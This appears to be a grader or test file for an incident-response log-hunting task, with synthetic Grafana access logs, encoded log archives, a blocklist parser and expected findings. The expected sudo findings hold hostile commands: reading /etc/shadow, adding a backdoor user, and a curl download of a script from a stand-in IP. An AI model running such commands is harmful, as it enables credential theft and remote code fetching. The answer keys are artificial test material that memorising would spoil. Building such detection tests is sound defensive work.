                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:10:45 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:12:21 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 '
                        '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:13:44 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 '
                        '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:20:10 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:20:47 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:24:53 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:25:48 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:26:43 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:27:37 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:30:40 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:34:02 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:38:07 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:44:26 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:51:57 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:53:42 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:54:40 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None]],
            'findings': {'compromised': [{'ip': '185.60.155.238', 'time': '2023-07-12T20:33:36Z', 'user': 'nikos'},
                                         {'ip': '212.78.194.101',
                                          'time': '2023-07-13T16:28:01Z',
                                          'user': 'billing-ro'}],
                         'sudo_after_compromise': [{'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                                    'time': '2023-07-12T20:36:42Z',
                                                    'user': 'nikos'},
                                                   {'command': '/usr/bin/cat /etc/shadow',
                                                    'time': '2023-07-12T20:41:14Z',
                                                    'user': 'nikos'}],
                         'unknown_keys': [{'fingerprint': 'SHA256:8a2aadadbb00a59f3c236572ea609e356594b61eb9a',
                                           'ip': '10.52.205.161',
                                           'time': '2023-07-13T14:29:20Z',
                                           'user': 'gwen'},
                                          {'fingerprint': 'SHA256:cb2ea6265f677972600f0e9cb30a70a561693e4bbb5',
                                           'ip': '201.243.69.72',
                                           'time': '2023-07-14T03:42:47Z',
                                           'user': 'tova'}]}}},
 {'files': {'access.log': 'H4sIAAAAAAACA82XW2/TQBCF3/kVqzxRoax3Zi9eb594gHKrQGolKiFUuanbGIwd7A1K+fWMkxalzjp1qhSRm5TI2u/sydmZMQhuBAeDXCZsTM8voKJ38yJCgdIJdCp2GLMXgh5f2ejo1SmLGp/6fBKlsxmfNA17c3r6KQIOI4ZCMJUkwEbjERsdV7/zokgjzQV7fpxO8tJXzfSQvS19VjD6gX08YWcM1Lk+YC9nsyL7nF28z31khOa0nmYn6VVa53+/j56B4IrESo46IFY6kE7aHcRCLOVK7OzGT6tyXGc/51njm4j8AC6WRCmJbTjYIFIbp8V9ZAciLV3wEARaiOVxgKGcBKfsVoYy+JSmS+QAwBFDHmgHymm8r++6pmXKNGoy7/Pyet14JYBBold6J/O6iCzXd16vg+psVtW+CeJUGHeZNtOLKq0vO/7Y5A54VI2n3s/GkyLPSr+8YjhYO9kD3jwFNrhBTa5K274DTpo2wMLcJxTVdV52cyu0CftHK7dR1cHV0W78T52FUSgdCNIZwCH7kJfzBVtYc27UATvKJt8rWhkEvYC9zuvsqlpEgPZWCpIOlXAlAlISp9DJXcqKNcmDZ0iRDwQN1DGAdvuqJ6PzJqt7A9qTlzVWMC23xB1jCnJAPVJqWbJBh/eZ0GsHYyXqOBClmM4CXQOWUyQCIOVE7Min3Q3digl7uYKpx1WYXie77PTyBx20DXKycSIHbXMwtm/L9F+ieAT4KTrAMKtIsZbDA//PVfc6jVR3hzm9LEXaxv+FaLSDT4SktaxVcl/ZpLlQDoavhiBh9gfXdre6qqzq6ZeWBkqUJlDhrGs/5U6jb6z21DzbcTCJaRwRQWWaZpFO96yri8o33C98t6cohXtSRR1PtjENNASEpa6holBJ2JMoaodIuUGabEKqlN0YNK7SX/mkKjl9dGUZjQ/fDyBPEspoYM5Ammpw2y3It407EC3i7YNG2+oNN3ee67UxSrS7UzDQc+r0th/1B/gLuEQJDgAA',
            'access.log.1': 'H4sIAAAAAAACA7WUb2vbMBDG3+9THH61MiLpTpIlq6/2Ysv+lQ0aWGGM4hql8WZsz1ZGtk9fJQ2jdZyQwGLLwjbGv+fuuTsUTBlGWjNChEk8v6HkH5YVJ0HSCe20jQteiXh8h2T6Zga8D3koC563LSv6Ht7NZl84MkyAhACNGpJJAkmx7CpumWYieYGC0XqtUTSCMQ4p7nsxP4YUhSZ7xLR/wqKpJ53/tfR96DkxiVskWkYyjZceR0qnBpHdd/k8r3Pe+xDK+v4pVQkEzLaxTZvJIoR2UlSlr8Pmgx1g59umC/0YVotx7CBITFE+8q6av2VV5TwmE15e5UVZh6ZfXML7OvgK4gv4fA03gOpWX8Drtq38V3/3sQw8FZrF/2m4joSu/Pd8glzl5HFyLapR54/DaIfiaDM2JaCJ/oMbeq8beVvyhc+rsBiQDUoc8eUG8RI+lfVyBSub3qbqAqa++NlEFoq4EN6WnZ83K45kt7nRKcsMQ5nuVui6I7RT6rm4rrlrQs/CKgxEkZDqnMWi4h1JRtmIUuXQODqhfbWRB62ThlnNzAhKO7KO9HPUPP9dFk3N4jbMSpriQZKOIUnFaDQu60ScfnTC9FMys+d0IdaLkSylUbFkdlp1IE+SyM46UeKQ32R0q0896TWxXgeSuTvjjRX7vXsAy4+XuLoGAAA=',
            'access.log.2.gz': 'H4sIAAAAAAACAwH3BAj7H4sIAAAAAAACA9Vb227bRhB971cQfmpQaLmzM7tLMk99aNNb0AIxkABFEdAybbFVRVWkC7df35EUN7rsSiRNUrRNyLAh88x9zgxXIAVJoZQSSspgwt+/ggp/eJiHSipMpEo0JCSDryR//RZcvfnmOgjv0r/zabEQ/BJ8d339SwgCroL1DTBGE1xNrviNxWRWVcvJdJ5ni2rzji+AkYywIIxxQNEGzexDlVVa5dMwXS7FtCwP0ACkOo1GApQUAOTEI0jwQLVDhDi2W4TlP9WsWExW2V8PWVmVoRIIQm5QiFE0CAWRAyVKyCQU76Pcr9K7dJGyWnk4y9J5NdvBJQmMq5vBrrJlsapKF7gGN3iZVVW+uD8yqlWnXVgP1ybYDDdiOTew04fVPIyEbqRmlIAH7ggGoSPTRl7TPpTZalc/lBQo/ZQarRSMvfa8TcvZTZGubg9zUYM+6UiMGJh/aEfYxmxPb9geqlc3YncB3YpuYHVDRY2OP1n2bfFvPp+nIZs2+PIDwOvgp3zx8Bg8RuajoVfBm2z6R8FQIPmC4Nt8ld0VjyGo6MkXUmgWGJ0WUVwxVAuLHPr7M8anf5+kt3/mCyce1cPbJC4adT6ya4Nrxq+dwOsARzKn460+tuHqXD8G1uCMbToDJ2pYudhS5wyvDcc+B4GjyXLII1vb7oPOi3uWbh9JRZY6inQj4oh7PjjEUYm0iTrI/VVxU1SlqB6rwzKjQHYkEyBXQRYNnUJxSzksSDvs4PdDr6CV6Mw/IGGtgCh2omjWXp33BBrCk/HGBR3XpMqlCybaJhpPMw8kOF29OaBUzCgOAI5iWyugEKzLeW/Tab6oinL2Ovh+UWXzgP8Q/Pwu+BAAfdSvgq+Xy3n2Prv5Ma9CIzUry63mHSfJKv//962QcmsGcBA+JRMpE7ANCB9y5JzOtLVn5SbbXW1NsX9lk/Teq+PPi+/zkgHXnrY80RUk5xEVv7ZF7Nsa2KgH+EXrJpbryEtRC3LQtxmZQ5gWYrWLJ+5i8iwL7wSH7GBKmUThcx07VBDytDecYaw3tBpWj6GsE3lnqEtlZ3zEs541Y50BxE3Dxd4zdIPTalTq1d4sFjA36qKp9CAa8864mWd2ee35+/NlXkw/3a4DZTue1j476Gj/WNtG7dJEH40BdZVs5nzjJXoXTcc+NqPnUa2XqXXrXG43ZgjnxglnWEsrNkVqxbsagQC3KBo48QG8mGOqievdqBnh7LpdnMAwxHO7P2nI49pHBiVIQ2FpLwXoOJGh5QDVdxSZDsQaKhetl0n3EPER87chiQkDIo6TKEPsJYbdZ2TsLbgX0l5JL3k565jWZlDcHs3ALZmnYxkNzg03g1IHHXagIsSXjl/OCgbXjzS1GldCae/WvceEMjz6jZ9vsphIQ/U4Zb026dERUfunDI0YFwMRDrnpU7F3A9ep21B68+eSVBLBu+7qrWWh8jaP0dFXXC9DX9A6kOXV+iV1OiRvwo/TwJqvIUcMNEcHLepmaDs864347iuB9TbOnowZednyOKMt8j477KTdYnx0srfT+5P0no7rx8HkH8H6Y0ekElCDz2CkvKV+dG2U1gPE+NgPkVesUZYDltd3buHCi23S7c7PXMSK/pMqNY8maxRWi/jpcwy490EQyT3G1v4gCFHkhEABNhJA5MRYL9xOn4tUOnYc6/wPifD92ccyAABRi0fF9wQAAA==',
            'allowlist.txt': 'H4sIAAAAAAACAx3MWwqEMAxG4XdX8YPvnToXEXcTSwaKkg5porh7Oz4e+Dg9iivKIcjyVaqmnsyVZwjvrCAzSitr7YYYplcYxhAfzwigx+6bsNKSt2wnaiJp+XefKdzsfbOlDfzXfnYUXbsLpFBNj3IAAAA=',
            'journal.json': 'H4sIAAAAAAACA91dWW/bSBJ+319B5GkGWEtdVx8O/GBMMrMGJgeSLBbzFFAkFXtjS4KOHBjsf99uWUqixIpIqUU3bcfxIfn4Pn5VXVVdrP770du3r56e//nm4tnTt+G/12/On718dJo9Am0dEDMYtXx59M/s0dt/vXj95vn5s6fhCR8mo5N3H0/oZBAeev3X6z9f/PH24snT528ufr94+io85bdXL54vv+/lxZPwuTjnwucvX128eHXx5q/wNf3Nd/9+/tvFn6uvw/I3+j/o9fkfy983yW/eLkZXn34ppuPR6ayaza7Go19Ps9VH2XhSjaoyG46n2WJWTbPpeDz/ZXFVnqlfs8HnbPXho//94++dmAk7grm4Hs++x1wDobDTAqRkL4SzRTn+FiGzxr0RZll2NXo3vSqz0+zNm7/OJvNZX2WPs5f/eXLWvxzfVP3Vw4+zf79++uosIPQf//bi2bPz5/4pi9m0P7ga9ef51XV2MspEZf0P+bR/PX7Xn32e+Xfd4uPLFQ8/tbnKb8lafgGUwjpytwTW+VeivcDPLsvvwHME8P6nnuaL+aVHHt5Vo/lVkc8DAUN/oRfT6nHmL+0ov6nOsiX6rLp9N59/PvPfnU0DO2fZ9HI8m58R9JBVj7AHki15O7slqlv0/O6h+2s/yWezj+PprQhW1jGcjm+yDZiT8XSeCTpwmf8jsA5SMSKOtLb7Ij1ZqXQTsaW9EZ8XRTWZB8yLwfVV8b76/ANoUD2GHhD1SN2CZmccLEGfZk+foIin4PW/zlH0KVU0cFJVDIpMVdCwQsmVQzOUCsq8yp0GVTrhErpJ2KYF7XYf3/uLZiulNYQMXmMmim0I6C64jpqLbELk3OU4lgvpFrfBJFbVdhsWrUIFWke1AiH1sNaR9Ghqvp5QCI1rC8OBFQtKMC5iLQ/JS6RHUlNv4RMm1HVF4QDNYXg3cTqOEFw0CKhIDHYQa7txgWOjDwD+fT6llUTNL2GP/NI7h6xfzYv+7DIvxx+7RUL7SaUTwzHBE92/AhbT6+xkll3O55PTfh+c7YlPPJTqmf6nnl8RTsZZf34z6fc+dYug1tXBCOLzaS0gURc9raNnmjdXo/xrnik9sNYvCWadXRuiuxNN4UExFNSFIFYkQy59OlBU1QD10GBJzqcHQ1VWUifRTJGvpgtKIHKtEW62nDCSKOsTbdFxbMUd5EyWkvjqSnDDlSwf3OFI/jteTEf5dTH37mQR5NMtCg50F5tCqAFdxFkVAloXVfwGdWxnMb2svjoL8UEj+rUBV0GyN94tvqIqB4SCdlgNTYVFqdkAD9iUg1yBLSkv3LAscyX5oJt0NfUVgce1RKChr3CiybBC4rjwBWOrZT7+8FUtuoeu52hVftEexd1aKXKrHLiKLefaIFQwyKXSZVEJVOycZTUoc1PlMOwmWU21Elhca4WaaUUUau0TNI607WOsO2RdWeph27qyfHDHulKOvbam2WTWLegHriebAtgNXft1NOzorLLpg7Ny4+C460jwDV+2czRxC4tIShy1uHhoEA3eHQKbKFZhD6tbLGWwzSEsH9zhEPLJPFtMynxedQv7gR5hUwE1oNO63yNOw4d1mHyTi8fM2BHM+zW5GAKv54gIKf2r6jELdATzflfVgYKoCA0lf1U9ZuwK5r2uqndERFHbDCV5Ww2YxXUE855XlZE0WHT7IdyaXlplj1rmRemhMj2/fKyibv8L7fHLvEny1V6Z11MOPvGI6OZiVKyO7QQ8ZtcRzHs6AaNFK8BVPnBwKmkZk+v+2PQZt+0fwRC6xc5dbR8/9YuaRUG9Xgj/fQYcEYmiSEDdg5JBOuw0loEY/1pbBhaNM2Bt5CXOPCw5pMdSY1mwE67vHRxojbhvOXorYCsPShbpsdRcFqKNrSkLUMQxSzgO008LPWbbFcz7RYSonCG0KBQn5nEQfWv2/dV0rWCAoF3/hj2hdb+rz1O27MKEe0L8c1GUVFVuNaBzQywY2dmCbQVAWLIrirxbRDXNAwOD6zxQN7MANExsxXu7uC3Rjo9bNoCeC33CsN6qs7qF3rAk2WqxaIAWjBFlLcTpo3QiEXvDVOPesPp7+ElBb7cnDNERgFGoGeJ4RhPdNVwu3o2/uAYyoVUYSa8WEHSypaA4KKyWYWmKofZxgDakzGCYl1zkg0KqoclLBC7E5Jh3i6amPiHwt5aENPMJHrQ1PuhEcnFgx7+BdaPDA314rENrMaxbBf16cPwuj6R4aq/LA4nAaB9aKY4UVjk54i1IIbDw4Sdyj9xKHlao5i1ISWFt8xYkD5zBkA1NbjEWR1Ho7n3ERfO+8aRoaPs2E/QLKBgxTlsTMzQWRTqywW9WTMJNh65nV43jYZOY65p7gohbTAZ83oShFVXv2c/8g9oPm2tzcDIw+zybVzfB3qfVbJ57MYzeXY0+dYuIllMDViGRIVSEcU3AmOOmCNxD5XwgaNY5AhndQo6QIl8t5greXyKIYTYUF76jo8pFfL7gyMvFrfdinYU25JIgXy3KRQtz1B4VnXz7YcAcdUfimJj325GwKD6zcYc0Xm0gBLQpbjta6hH4VFKvJ5T4HLpb5Nw5meTbUspXiKs5Rhbqxs7WvxofY9i4u6sCB/RlXow+5Nc+MVxqeXK1FSZbst1EeKfci8uqeL+8yo9voS9G70fjj6MHBDGyRXeTmbvnT9WXfH3LFh9XO4pT5xQ4oF9iw6LH07y4rrZCRPFBVqfQxbfmtKHdhxUnw8hO660h7/oWrNFnL6IhDmyn4ljwbDFZgtmCUThUzjoFL74Jpw3tPkw4GUZ2mnAdfde1YVIIKMqAjYIbFcSx4by8uRptQ0jWWe4WuNgWnDq09i04IUZ2WvBudde3X2J2GkXHQY36ARVJEiKnaZHEB4FsaosArBMLFuPuFuABN6zULpIYdN1EGN2jdwTiPXj29Jg5qEjiJV/fsp1ywlZ0XOg61eUewsy1ZlPck2Rp1xT3b9GubthzomrLAo1zKmx7xVnYdCRHH6YwjydbELI3YegWuOg+PnFocc24W4TsdOm7xV3bfAlIsTYYp16IVh8p6f4GINkw67xT2KJbb+LQ2rfedAhpnnJ/r+36xovAaFTcUb4evIljxMP55Pb9nVB1uFm5myjjm3M3IN6DWSdHzE7zrqH6BgbufZo1Nk4hkUC1sjEdBit2C90RDDppaPdQOUmHkUM3poO861twOOXHgTFxYGM7G9OsCXS34MU34bSh3YcJJ8PIoRvTS33XtmFBQJ9emDgNriSRwuvFYDGaL7YmEsDcLXDRLThxaO1H0+kQstOAd4u7vvmKUv4DF/VwLKG0K55NThlNkqOfnzL646YFW7b1JWEMKVEcp1pElh/UHlY67DTeu9JKu/rNCv7ZoA3YuPeqkcM29rCASboJMvpC3xGI7S/46RFz4N5WEH1t87aKdJgvB1HRszLH3+NiQOO6iTG6dXcEYvvWnR4xB+19LTXfwLgNanvA4KIt4F0be1+EVK8BJT2URzDvTkC8D/NOjZgD976Wqq9v4EBkkSnKEYPCIO1U3Sx1C1x8e04b2j3YcTKEHFx1s1TffC0Tabv/2KDvUD+kals63DStsild/6Zccv7p7FNQigMT8UFV2dJhp3GVzacIUrOJJZw4CYJswUkcoBJ7uuLsQ3EyK/LR9hugqG5ekhTapnOv1jwsJz8512wMFIHG5VBBLZHjVZ3ksKQwr5u5Z2Bl9+FAg26SdJf1f3PAxbdQVyV2NqquOehwLyyR4UjBj41t/D9DyuT/9A4ibe8wDvIRIUc9pTT9gXcBc9wjeFIbeLe8y9GI8CqyjOamRJmjHrHC0tN+4VbrM1a0Rn38M1aSpKu9scrhlkdrUSkQijJNWFhFHKuMjccqN5+jnhQF7Q5UJgwxDRAAx+nsFY4+GXc+/vDVR5DrGe4hmfUxhHo1Pv0HH1HkVjlwFVvOtUGoYJBLpcuiEqjYOb8IDMrcVDkMu0VTU98Q+FtLgpr5Bh9OgQ4LJnBc18gcORDcEEk4coXDyYRqVfrS2tVNAVOE3OYVd4o1kn+zceHr407Mxlu/IOtTa53TfPyB2UnS1d7AbCLFqMEHahwZfvRDdzbHq9seiNcMrk8tJVM7J04RcptXHIzS/gUp7qBZjUnuEIRCoheLalQmSpGjnWWiL0hXOwUodWsnHm6oPBglcY+l0WwekiSS46ihJFhT3UFiAS7pcEoNxHWSWvCYBcTvbAAJqMOAW6wjEpIWoxVyZHlHKRj/5JwV/8/05Ev3OSnXQtCYIltthhA+m6Zwc4myUaotRh10eN9SEF8LTrBRcFo+GO1Q36SgH1ho2hRAHehsHbAOZ1nEFL1hOOaSwLqHYHrgzHq6WoNVMEHIbS4K4XBK7YgR4oj9gJzY2/nysm4rLC8f3GHn+WSeLSZlPq+6hf1AQ99UQA3oYtmgoE8hopRKjcOjVpS16nkDR1Zf9sdpS+WIVDkUUhYYK2/VXJaS26EdQAl5kZc5OpGhAikL6BZNLdYXLYJSMXdfrUt+x9ljBugI5i07zv8HqYHSvEm+AAA=',
            'known_keys.txt': 'H4sIAAAAAAACA03QS2ocQQyA4b1P0eALlFRSPbKywQHvcwKVHnZjz/TQ9AR8+7gJ3clSi/+T0OMkqsv9uk1TzNc3X2/rvA/b182nSZfLxa/bw/v9bZl+vT4jlx9DW+GwqlFyo1JzqiPESGUoe1QxBFKugjL9fEFm6NPeP33KbVtuD99b1tkOLXsend0JUq6uORxZUsca7GDi0gsk60wGp/ZXOLyPeZVTSxacUwNCp9LIjKVFG2AgKibYmSMBm/7T9v6wLvP1tJiGBmNRRvTMQdZqVveBJSpa7rnVSOb832V7f1jru5+W28jI2OL7P45qhSrQoGpDEjTLoj3MJLGM09r7w9qW36el0lKH7tRISkVwGMJeTJ3BqfdGaZhUF4jT2vvD+gOjlWZF8gEAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MQQrCMBQF9znFW+qiWCsidCvuRATjAcrrB4NpPjSfQnp6s7Wznhngj7tyiLAwSY8dNUahyYiu7U5Ne2mO573DBl9lrJpqcTMe3v7qXiWbTGBUfpFL4mfWFFYZexTJm8PDP5FlXgLrYaCFRdwPMzubepYAAAA='},
  'host': 'vpn-gw-3',
  'truth': {'filter': [['10.18.236.235 - - [13/Jul/2023:07:13:48 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['10.18.236.235 - reports [13/Jul/2023:07:13:50 +0000] "GET /grafana/ HTTP/1.1" 200 1613 "-" '
                        '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['10.18.236.235 - reports [13/Jul/2023:07:15:10 +0000] "GET /grafana/settings HTTP/1.1" 200 '
                        '4522 "-" "Go-http-client/1.1"',
                        None],
                       ['10.32.111.228 - reports [14/Jul/2023:05:14:54 +0000] "GET /grafana/dashboard HTTP/1.1" 200 '
                        '8995 "-" "Go-http-client/1.1"',
                        None],
                       ['10.38.150.35 - reports [12/Jul/2023:09:11:51 +0000] "GET /grafana/dashboard HTTP/1.1" 200 '
                        '6596 "-" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['10.40.52.33 - grafana-admin [12/Jul/2023:09:25:24 +0000] "GET /grafana/settings HTTP/1.1" 304 '
                        '3465 "-" "Go-http-client/1.1"',
                        None],
                       ['10.44.151.218 - reports [12/Jul/2023:08:49:31 +0000] "GET /grafana/dashboard HTTP/1.1" 200 '
                        '3515 "-" "Go-http-client/1.1"',
                        None],
                       ['171.21.118.204 - - [14/Jul/2023:14:07:01 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['171.21.118.204 - admin [14/Jul/2023:14:09:06 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        '171.21.118.204'],
                       ['171.21.118.204 - admin [14/Jul/2023:14:11:53 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 '
                        '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        '171.21.118.204'],
                       ['171.21.118.204 - reports [14/Jul/2023:14:07:04 +0000] "GET /grafana/settings HTTP/1.1" 401 '
                        '195 "-" "python-requests/2.31.0"',
                        '171.21.118.204'],
                       ['171.21.118.204 - reports [14/Jul/2023:14:11:20 +0000] "GET /grafana/users HTTP/1.1" 401 195 '
                        '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        '171.21.118.204'],
                       ['171.21.118.204 - reports [14/Jul/2023:14:12:13 +0000] "GET /grafana/users HTTP/1.1" 200 8587 '
                        '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['171.21.118.204 - reports [14/Jul/2023:14:12:28 +0000] "GET /grafana/settings HTTP/1.1" 304 '
                        '8843 "-" "python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:22:52:22 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:22:55:20 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:22:55:47 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:22:57:46 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:06:22 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:06:49 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:09:15 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:10:14 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:14:34 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:15:09 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:15:47 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:17:13 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:18:33 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:24:52 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:26:34 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:28:43 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:31:06 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:35:35 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:37:34 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:38:08 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:41:16 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['77.100.40.35 - - [12/Jul/2023:23:44:57 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None]],
            'findings': {'compromised': [{'ip': '31.240.32.15', 'time': '2023-07-12T05:18:47Z', 'user': 'ingrid'},
                                         {'ip': '171.21.118.204', 'time': '2023-07-14T14:12:13Z', 'user': 'reports'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/cat /etc/shadow',
                                                    'time': '2023-07-12T05:24:36Z',
                                                    'user': 'ingrid'},
                                                   {'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                                    'time': '2023-07-12T05:26:14Z',
                                                    'user': 'ingrid'},
                                                   {'command': '/usr/bin/journalctl -u ssh',
                                                    'time': '2023-07-13T07:30:17Z',
                                                    'user': 'ingrid'}],
                         'unknown_keys': [{'fingerprint': 'SHA256:e38571122505eea861299f2c42498c48e1132d49cca',
                                           'ip': '111.114.112.53',
                                           'time': '2023-07-13T04:02:53Z',
                                           'user': 'kira'},
                                          {'fingerprint': 'SHA256:30df5308142e4684dd5a8f8b1d1acada2955f015dc1',
                                           'ip': '10.60.17.240',
                                           'time': '2023-07-14T11:57:27Z',
                                           'user': 'tova'}]}}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
